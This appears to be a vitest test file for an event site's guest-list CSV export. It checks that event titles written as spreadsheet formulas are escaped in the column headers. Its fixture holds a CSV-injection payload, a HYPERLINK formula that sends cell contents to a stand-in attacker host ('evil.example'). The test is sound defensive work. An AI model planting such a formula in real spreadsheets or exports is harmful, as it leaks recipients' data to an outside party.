import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ContentData } from '../../shared/content';
import { createTestApp, type TestApp } from '../testing/test-app';
import { hostSite, type HostSite } from './testing/fixtures';

/** A function title a host (or whoever reached the editor) typed as a spreadsheet formula. */
const FORMULA_TITLE = '=HYPERLINK("http://evil.example/?leak="&A2,"Sangeet")';

let t: TestApp;
let site: HostSite;

beforeAll(async () => {
  t = await createTestApp();
  site = await hostSite(t, {
    content: (sample: ContentData) => {
      const schedule = sample.schedule as { Schedule: { EventName: string }[] };
      schedule.Schedule[1]!.EventName = FORMULA_TITLE;
      schedule.Schedule[2]!.EventName = '  @SUM(1+1)';
      return sample;
    },
  });
});
afterAll(() => t.close());

describe('the guest list as CSV', () => {
  it('neutralises the column headers that functions’ titles make', async () => {
    const list = await t.app.inject({
      method: 'GET',
      url: `/rest/api/private/live/${site.liveId}/households/export.csv`,
      headers: { authorization: site.owner.authorization },
    });
    expect(list.statusCode).toBe(200);
    const [header] = parse(list.body, { bom: true }) as string[][];
    expect(header).toContain(`'${FORMULA_TITLE} seats`);
    expect(header).toContain(`'${FORMULA_TITLE} answer`);
    expect(header).toContain(`'@SUM(1+1) seats`);
    for (const cell of header!) expect(cell).not.toMatch(/^\s*[=+\-@\t\r]/);
  });
});
